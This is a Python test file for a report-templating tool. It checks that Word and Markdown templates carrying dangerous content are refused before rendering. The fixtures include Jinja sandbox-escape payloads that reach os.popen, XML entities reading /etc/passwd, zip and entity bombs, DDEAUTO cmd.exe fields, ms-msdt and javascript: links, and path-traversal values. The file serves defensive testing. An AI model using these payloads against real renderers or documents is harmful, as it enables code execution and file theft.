"""A template has no power: whatever it tries, a problem comes of it, in bounded time and memory."""

from __future__ import annotations

import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest
from offices import office
from wordfile import repacked, word

from selfeval.documents import markdown
from selfeval.documents.check import check, refuse
from selfeval.documents.sandbox import RenderingError
from selfeval.documents.view import Item
from selfeval.documents.word import render as word_writer
from selfeval.form.form import Form
from selfeval.form.library import load
from selfeval.pipeline.department import build
from selfeval.pipeline.workspace import Workspace
from selfeval.problem import Level, Problem
from selfeval.submission.folder import DepartmentYear

WALKS = (
    "{{ ''.__class__.__mro__[1].__subclasses__()[389](['id'], stdout=-1).communicate()[0] }}",  # docxtpl issue 549
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",  # docxtpl issue 632
    "{{ 部门.__class__ }}",
    "{{ 标题.__class__.__base__ }}",
    "{{ self.__init__.__globals__ }}",
    "{{ 部门.名称.format.__self__ }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(部门) }}",
    "{{ 标题|attr('__class__') }}",
    "{{ 部门['__class__'] }}",
    "{{ lipsum.__globals__ }}",
    "{{ 部门.clear() }}",
    "{% include '/etc/passwd' %}",
    "{% import '/etc/passwd' as x %}",
    "{% extends '/etc/passwd' %}",
)
BOMBS = (
    "{{ '%s' % 部门 }}",
    "{{ 9**(9**9) }}",
    "{{ 标题 * 999999999 }}",
    "{{ '%999999999d' % 1 }}",
    "{% for i in range(999999999) %}x{% endfor %}",
    "{% for a in 绩效指标 %}{% for b in 绩效指标 %}x{% endfor %}{% endfor %}",
    "{% for a in 重点任务 recursive %}{{ loop(重点任务) }}{% endfor %}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{{ " + "(" * 5000 + "标题" + ")" * 5000 + " }}",
    "{{ " + "9" * 10000 + " }}",
)
NAMES = Item({"标题": "题", "部门": Item({"名称": "局"})})


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Form:
    """Return the base form."""
    return load(office(tmp_path_factory.mktemp("base")) / "templates").forms["form"]


def templates(folder: Path, text: str) -> list[Path]:
    """Write a text as the Word and the Markdown template of a form."""
    in_word, in_markdown = folder / "document.docx", folder / "document.md"
    in_word.write_bytes(word(text))
    in_markdown.write_text(text, encoding="utf-8")
    return [in_word, in_markdown]


def problems(base: Form, folder: Path) -> tuple[Problem, ...]:
    """Return what the check says of the templates in a folder."""
    return check(replace(base, folder=folder)).problems


@pytest.mark.parametrize("text", [*WALKS, *BOMBS])
def test_a_tag_with_power_is_refused_before_it_runs(text: str, tmp_path: Path, base: Form) -> None:
    """In Word and Markdown, by the check and before rendering."""
    paths = templates(tmp_path, text)
    said = problems(base, tmp_path)
    assert {Path(problem.place.file).name for problem in said if problem.level is Level.ERROR} == {
        path.name for path in paths
    }
    for path in paths:
        with pytest.raises(RenderingError):
            refuse(path)


@pytest.mark.parametrize("text", WALKS)
def test_the_room_is_closed_too(text: str, tmp_path: Path) -> None:
    """What were to slip through the check still finds nothing when it runs."""
    in_word, in_markdown = templates(tmp_path, text)
    with pytest.raises(RenderingError):
        word_writer.render(in_word, NAMES, "", "")
    with pytest.raises(RenderingError):
        markdown.render(in_markdown, NAMES, "", "")


@pytest.mark.parametrize("mark", ["9**(9**9)", "标题|attr('__class__')", "x }}{{ 9**(9**9)", "部门.__class__"])
def test_a_merge_mark_is_no_way_in(mark: str, tmp_path: Path) -> None:
    """A mark becomes a tag, so it may say no more than one."""
    path, _ = templates(tmp_path, f"| 〔合并 {mark}〕局 |")
    with pytest.raises(RenderingError):
        refuse(path)


def png(width: int, height: int) -> bytes:
    """Return the head of a picture of that size."""
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII5s", 13, b"IHDR", width, height, b"\x08\2\0\0\0") + b"\0" * 8


def jpeg(width: int, height: int) -> bytes:
    """Return a picture of that size that holds a small preview."""
    frame = b"\xff\xc0\x00\x11\x08"
    return b"\xff\xd8" + frame + struct.pack(">HH", 90, 60) + b"\3" + frame + struct.pack(">HH", height, width) + b"\3"


LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
LEAK = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="t" TargetMode="External" Target="http://example.com/evil.dotm"'
    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
PACKAGES = {
    "zip bomb": {"word/media/a.png": b"\0" * (60 * 2**20)},
    "attached template": {"word/_rels/settings.xml.rels": EXTERNAL},
    "macro": {"word/vbaProject.bin": b""},
    "control": {"word/activeX/activeX1.bin": b""},
    "entities": {"word/settings.xml": LAUGHS},
    "outer entity": {"docProps/app.xml": LEAK},
    "deep nesting": {"word/settings.xml": b"<a>" * 100_000 + b"</a>" * 100_000},
    "not XML": {"word/styles.xml": b"<a>"},
    "giant PNG": {"word/media/a.png": png(60_000, 60_000)},
    "giant JPEG": {"word/media/a.jpeg": jpeg(65_000, 65_000)},
    "DDE field": {"word/footer1.xml": b"<w:ftr " + W + b"><w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r>"
        b"<w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p></w:ftr>"},
    "include field": {"word/footer1.xml": b"<w:ftr " + W + b'><w:fldSimple w:instr="INCLUDETEXT c:/x"/></w:ftr>'},
}  # fmt: skip


MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt>",
    "</p>",
    "<!DOCTYPE html>",
    "<?php ?>",
    "<{{ 标题 }}>",
    "<{% if 标题 %}script>{% endif %}",
    "<{# 注 #}script>",
    "[点](javascript:alert(3))",
    "[点]( javascript:alert(3))",
    "[点](\njavascript:alert(3))",
    "[点]{# 注 #}(javascript:alert(3))",
    "[点](j{{ 标题 }})",
    "[点]({{ 标题 }})",
    "[点](//evil/x)",
    "[点](data:text/html,x)",
    "[点]: javascript:alert(3)",
    "![图](http://example.com/t.png)",
    "![图][1]",
    "!{# 注 #}[图](x.png)",
)


@pytest.mark.parametrize("text", MARKUP)
def test_markup_with_power_is_refused_in_markdown(text: str, tmp_path: Path, base: Form) -> None:
    """Scripts, pictures and odd links would go out on the public page."""
    path = tmp_path / "document.md"
    path.write_text(f"# {{{{ 标题 }}}}\n\n{text}\n", encoding="utf-8")
    assert "template-unsafe" in {problem.rule for problem in problems(base, tmp_path)}
    with pytest.raises(RenderingError):
        refuse(path)


@pytest.mark.parametrize(
    "text",
    [
        "执行率 < 90%，x<5，a <= b",
        "| 甲<br>乙<br/> | {{ 标题 }} |",
        "<!-- 给改表样的人 -->",
        "[公开网](https://www.gov.cn/a_(b))、[网](HTTP://www.gov.cn)、<https://www.gov.cn>、[信](mailto:a@b.cn)、[上](#上)、[文](另一份.md)",
        "真好！[注]",
        "{# 写给自己\n两行 #}",
        "\\![不是图]",
    ],
)
def test_ordinary_markdown_is_left_alone(text: str, tmp_path: Path) -> None:
    """A smaller sign, a line break, a note and a link to a page are no danger."""
    path = tmp_path / "document.md"
    path.write_text(f"# {{{{ 标题 }}}}\n\n{text}\n", encoding="utf-8")
    refuse(path)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("<!-- 旧的：{{ 年度 }} -->", "注释"),
        ("`{{ 年度 }}`", "反引号"),
        ("```\n{{ 年度 }}\n```", "代码"),
        ("甲\n\n    {{ 年度 }}", "空四格"),
        ("| 【合并】{{ 年度 }} |", "【合并】"),
        ("| （合并）{{ 年度 }} |", "（合并）"),
        ("<!-- 注 --> {{ 年度 }} <!-- 注 -->", ""),
        ("```\n甲\n```\n\n{{ 年度 }}\n\n```\n乙\n```", ""),
        ("- 甲\n\n    {{ 年度 }}", ""),
        ("【合并】的资产：{{ 年度 }}", ""),
        ("\\`{{ 年度 }}\\`", ""),
    ],
)
def test_a_tag_that_markdown_shows_otherwise_is_told_of(text: str, said: str, tmp_path: Path, base: Form) -> None:
    """In a comment nothing shows, in code the signs before special characters do, and no mark of Word joins cells."""
    (tmp_path / "document.md").write_text(f"# {{{{ 标题 }}}}\n\n{text}\n", encoding="utf-8")
    told = [
        each for each in problems(base, tmp_path) if each.rule in ("template-misplaced-tag", "template-unknown-mark")
    ]
    assert [said in each.message for each in told] == ([True] if said else [])


LISTS = Item({"标题": "题" * 1000, "甲": ["字" * 100] * 50, "乙": ["字" * 100] * 50, "丙": ["字" * 100] * 50})
FLOODS = (
    "{% for p in 甲 %}{% for a in p %}{{ 标题 }}{% endfor %}{% endfor %}",
    "{% for 字 in 标题 %}{{ 标题 }}{% endfor %}",
    "{% for a in 甲 %}{% for b in 乙 %}{% for c in 丙 %}{{ 标题 }}{% endfor %}{% endfor %}{% endfor %}",
    "{% for a in 甲 %}{% for b in 乙 %}{% for c in 丙 %}{% for d in 甲 %}{% for e in 乙 %}" + "{% endfor %}" * 5,
)


@pytest.mark.slow
@pytest.mark.parametrize("text", FLOODS)
def test_a_template_prints_no_more_than_it_may(text: str, tmp_path: Path) -> None:
    """A loop goes over a list, and all loops together print a bounded document."""
    tracemalloc.start()
    try:
        for path, writer in zip(templates(tmp_path, text), (word_writer, markdown), strict=True):
            with pytest.raises(RenderingError, match="for"):
                writer.render(path, LISTS, "", "")
        assert tracemalloc.get_traced_memory()[1] < 200 * 2**20
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    "text",
    [
        "{{ 部门" + ".名称" * 3000 + " }}",
        "{% if " + " and ".join(["标题"] * 3000) + " %}{% endif %}",
        "{% if 标题 %}" * 60 + "{% endif %}" * 60,
        "{% if 标题 %}" * 5000,
        "{# " * 50_000,
        "{{ 名 }}" * 10_000,
        "〔合并" * 20_000,
        "{" * 100_000,
        "{\n" * 50_000,
        "{" * 9_000,
        "{#" * 4_000,
        " " * 100_000 + "{%",
        "](" * 4_000,
    ],
)
def test_a_template_does_not_exhaust_who_reads_it(text: str, tmp_path: Path, base: Form) -> None:
    """Long chains, deep blocks and very many tags end in a problem, soon."""
    begun = time.process_time()
    paths = templates(tmp_path, text)
    assert problems(base, tmp_path)
    for path, writer in zip(paths, (word_writer, markdown), strict=True):
        with suppress(RenderingError):
            refuse(path)
            writer.render(path, NAMES, "", "")
    assert time.process_time() - begun < 10


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def field(*codes: str, result: str = "1") -> str:
    """Return a paragraph with one field, its code in as many runs as there are pieces."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    return f"<w:p>{BEGIN}{runs}{SEPARATE}<w:r><w:t>{result}</w:t></w:r>{END}</w:p>"


BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
NESTED = field("PAGE", result="DDEAUTO cmd").removeprefix("<w:p>").removesuffix("</w:p>")
ACTIVE_TEXTS = {
    "small letters": field("ddeauto c:\\x"),
    "mixed case, split, blanks": field("  In", "cludePic", "ture  http://evil/x.png"),
    "a tab for a blank": field("\tLINK\tExcel.Sheet"),
    "unknown field": field("ADDIN cmd"),
    "inside another": f"<w:p>{BEGIN}<w:r><w:instrText>SEQ </w:instrText></w:r>{field('dde x')[5:-6]}{SEPARATE}{END}</w:p>",
    "name from a result": f"<w:p>{BEGIN}{NESTED}{SEPARATE}{END}</w:p>",
    "name as plain text": f"<w:p>{BEGIN}<w:r><w:t>DDE x</w:t></w:r>{SEPARATE}{END}</w:p>",
    "without an end": f"<w:p>{BEGIN}<w:r><w:instrText>DDE x</w:instrText></w:r></w:p>",
    "without a beginning": "<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>",
    "simple": '<w:p><w:fldSimple w:instr=" includetext c:/x"/></w:p>',
    "simple inside simple": '<w:p><w:fldSimple w:instr="PAGE"><w:fldSimple w:instr="Rd x"/></w:fldSimple></w:p>',
    "in a text box": f"<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>{field('dde x')}</w:txbxContent>"
    "</v:textbox></v:shape></w:pict></w:r></w:p>",
    "tag in the code": field("QUOTE {{ 标题 }}"),
    "tag as the code": field("{{ 标题 }}"),
    "tag in a link": field('HYPERLINK "http://{{ 标题 }}"'),
    "tag around the end": field("PAGE", result="{% if 标题 %}") + "<w:p><w:r><w:t>{% endif %}</w:t></w:r></w:p>",
    "link to a program": field('HYPERLINK "file:///c:/x.exe"'),
    "link to another computer": field("hyperlink \\\\evil\\x"),
    "picture by its address": '<w:p><w:r><w:pict><v:shape><v:imagedata src="http://evil/x.png"/></v:shape></w:pict></w:r></w:p>',
    "link on a shape": '<w:p><w:r><w:pict><v:shape href="ms-msdt:/id x"/></w:pict></w:r></w:p>',
    "another document": '<w:p/><w:altChunk xmlns:r="x" r:id="c"/>',
    "an object": "<w:p><w:r><w:object/></w:r></w:p>",
    "program behind a picture": '<w:p><w:r><w:drawing><a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/></w:drawing></w:r></w:p>',
}
HARMLESS_TEXTS = {
    "page": field(" PAGE  \\* MERGEFORMAT "),
    "contents": field('TOC \\o "1-3" \\h \\z \\u'),
    "jump": field('HYPERLINK \\l "_Toc1"'),
    "page on the internet": field('HYPERLINK "https://www.gov.cn"', result="{{ 标题 }}"),
    "sum": field("=SUM(ABOVE)"),
    "simple": '<w:p><w:fldSimple w:instr=" numpages "/></w:p>',
}
RELATIONS = {
    "picture outside, small letters": ("image", "http://evil/x.png", "external"),
    "picture outside, blanks": ("image", "http://evil/x.png", " External "),
    "picture outside, unknown mode": ("image", "http://evil/x.png", "Remote"),
    "frame": ("frame", "http://evil", "External"),
    "object under another name": ("OLEObject", "embeddings/x.bin", "Internal"),
    "another document": ("aFChunk", "x.xml", "Internal"),
    "attached template, inside": ("attachedTemplate", "x.xml", "Internal"),
    "link to a program": ("hyperlink", "file:///c:/windows/system32/calc.exe", "External"),
    "link to another computer": ("HYPERLINK", "\\\\evil\\x", "External"),
    "nothing there": ("styles", "no.xml", "Internal"),
    "nothing there, outside": ("styles", "../../../etc/passwd", "Internal"),
}


def with_relation(kind: str, target: str, mode: str) -> bytes:
    """Return a Word file whose document has one relationship."""
    relation = f'<Relationship Id="t" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    made = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}</Relationships>'
    return word("{{ 标题 }}", {"word/_rels/document.xml.rels": made.encode(), "word/x.xml": b"<x/>"})


@pytest.mark.parametrize("name", ACTIVE_TEXTS)
def test_active_content_in_the_text_is_refused(name: str, tmp_path: Path) -> None:
    """Fields are read as Word reads them: whatever their case, blanks and runs, and one inside the other."""
    path = tmp_path / "document.docx"
    path.write_bytes(word(ACTIVE_TEXTS[name]))
    with pytest.raises(RenderingError):
        refuse(path)


@pytest.mark.parametrize("name", HARMLESS_TEXTS)
def test_ordinary_fields_are_left_alone(name: str, tmp_path: Path) -> None:
    """Page numbers, contents, sums and links to pages are what templates have."""
    path = tmp_path / "document.docx"
    path.write_bytes(word(HARMLESS_TEXTS[name]))
    refuse(path)


@pytest.mark.parametrize("name", RELATIONS)
def test_a_relationship_not_known_is_refused(name: str, tmp_path: Path) -> None:
    """Whatever leads out of the file, holds another document, or leads nowhere."""
    path = tmp_path / "document.docx"
    path.write_bytes(with_relation(*RELATIONS[name]))
    with pytest.raises(RenderingError):
        refuse(path)


NO_DOCUMENTS = {
    "a table that does not say its columns": ("<w:tblGrid><w:gridCol/></w:tblGrid>", ""),
    "no body": ("w:body>", "w:bodies>"),
    "two bodies": ("</w:body>", "</w:body><w:body><w:p><w:r><w:t>{{ 标题 }}</w:t></w:r></w:p></w:body>"),
    "a row in a run": ("<w:r><w:t", "<w:r><w:tr><w:tc><w:p/></w:tc></w:tr><w:t"),
    "a paragraph in a paragraph": ("<w:p><w:r>", "<w:p><w:p/><w:r>"),
    "a cell outside of rows": ("<w:tr>", "<w:tc><w:p/></w:tc><w:tr>"),
}
"""What Word never saves; printed into, it would be no document, or the library that prints fails."""


@pytest.mark.parametrize(("old", "new"), NO_DOCUMENTS.values(), ids=NO_DOCUMENTS)
def test_what_is_no_document_of_word_is_refused(old: str, new: str, base: Form, tmp_path: Path) -> None:
    """By `templates` as by `build`, in words: the program has no fault."""
    made = word("标题\n| {{ 标题 }} |")
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        text = package.read("word/document.xml").decode()
    assert old in text
    path = tmp_path / "document.docx"
    path.write_bytes(repacked(made, {"word/document.xml": text.replace(old, new).encode()}))
    assert "template-unreadable" in {each.rule for each in problems(base, tmp_path)}
    with pytest.raises(RenderingError, match="另存一份"):
        refuse(path)


@pytest.mark.parametrize("start", ["", "../", "word/nothing.xml"])
def test_a_package_without_a_document_is_refused(start: str, tmp_path: Path) -> None:
    """By a message, not by what the library that reads it happens to raise."""
    target = b'<Relationship Id="d" Type="%s/officeDocument" Target="%s"/>' % (OFFICE.encode(), start.encode())
    path = tmp_path / "document.docx"
    path.write_bytes(
        word(
            "x",
            {
                "_rels/.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                + (target if start else b"")
                + b"</Relationships>"
            },
        )
    )
    with pytest.raises(RenderingError):
        refuse(path)


@pytest.mark.parametrize("name", PACKAGES)
def test_a_package_with_power_is_refused(name: str, tmp_path: Path, base: Form) -> None:
    """By the check and before rendering, without unpacking what is too large."""
    path, _ = templates(tmp_path, "{{ 标题 }}")
    path.write_bytes(word("{{ 标题 }}", PACKAGES[name]))
    tracemalloc.start()
    try:
        rules = {problem.rule for problem in problems(base, tmp_path)}
        assert rules & {"template-unsafe", "template-unreadable"}
        with pytest.raises(RenderingError):
            refuse(path)
        assert tracemalloc.get_traced_memory()[1] < 20 * 2**20
    finally:
        tracemalloc.stop()


def lying(data: bytes) -> bytes:
    """Return a package that says its largest member has ten bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        largest = max(package.infolist(), key=lambda entry: entry.file_size)
    return data.replace(struct.pack("<I", largest.file_size), struct.pack("<I", 10))


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"PK\3\4",
        b"\xd0\xcf\x11\xe0 an old or locked document",
        word("{{ x }}")[:-40],
        lying(word("{{ 标题 }}", {"word/media/a.png": b"\0" * 5_000_000})),
        word("", {"word/document.xml": zlib.compress(b"x")}),
    ],
    ids=["empty", "head only", "locked", "cut off", "lying about sizes", "not XML"],
)
def test_what_is_no_word_file_is_a_problem(data: bytes, tmp_path: Path, base: Form) -> None:
    """Never an exception of the library that reads it."""
    path, _ = templates(tmp_path, "")
    path.write_bytes(data)
    with pytest.raises(RenderingError):
        refuse(path)
    said = problems(base, tmp_path)
    assert "template-unreadable" in {problem.rule for problem in said}


def test_a_template_is_no_link_to_another_file(tmp_path: Path, base: Form) -> None:
    """A link would print any file of this machine into a report."""
    secret = tmp_path / "secret.txt"
    secret.write_text("秘密", encoding="utf-8")
    _, path = templates(tmp_path, "")
    path.unlink()
    path.symlink_to(secret)
    with pytest.raises(RenderingError, match="链接"):
        refuse(path)
    said = problems(base, tmp_path)
    assert any(problem.rule == "template-unsafe" for problem in said)


@pytest.mark.parametrize(
    ("word_in_form", "value"),
    [
        ("文件名", "../../../../escaped"),
        ("文件名", "/escaped"),
        ("文件名", "..\\escaped"),
        ("数据", "../../../secret.yaml"),
    ],
)
def test_a_form_stays_in_its_folders(word_in_form: str, value: str, tmp_path: Path) -> None:
    """Neither where it reads nor where it writes can a form leave the department's folders."""
    office(tmp_path)
    (tmp_path / "secret.yaml").write_text("秘密: 1\n", encoding="utf-8")
    form = tmp_path / "templates/form/form.yaml"
    text = form.read_text(encoding="utf-8")
    added = f"数据:\n  - {value}\n" if word_in_form == "数据" else f"文件名: {value}\n数据:\n"
    form.write_text(text.replace("数据:\n", added), encoding="utf-8")
    reports = tmp_path / "reports"
    outcome = build(Workspace(tmp_path / "data", tmp_path / "templates", reports), DepartmentYear("2024", "qinghu"))
    refused = [problem.rule for problem in outcome.problems] == ["bad-declaration"]
    assert refused if word_in_form == "数据" else outcome.documents
    for document in outcome.documents:
        assert (reports / document.path).resolve().parent == (reports / "2024/qinghu").resolve()
    assert not any("秘密" in line for lines in outcome.lines.values() for line in lines)


def test_a_tracked_change_in_a_template_without_paragraphs_is_told_of(tmp_path: Path, base: Form) -> None:
    """A table whose properties somebody changed may be all that there is."""
    made = word("{{ 标题 }}")
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        before, _, rest = package.read("word/document.xml").partition(b"<w:body>")
    mark = b'<w:tbl><w:tblPr><w:ins w:id="1" w:author="a"/></w:tblPr><w:tblGrid/></w:tbl>'
    body = before + b"<w:body>" + mark + rest[rest.index(b"</w:body>") :]
    (tmp_path / "document.docx").write_bytes(repacked(made, {"word/document.xml": body}))
    assert "template-tracked-change" in {each.rule for each in problems(base, tmp_path)}
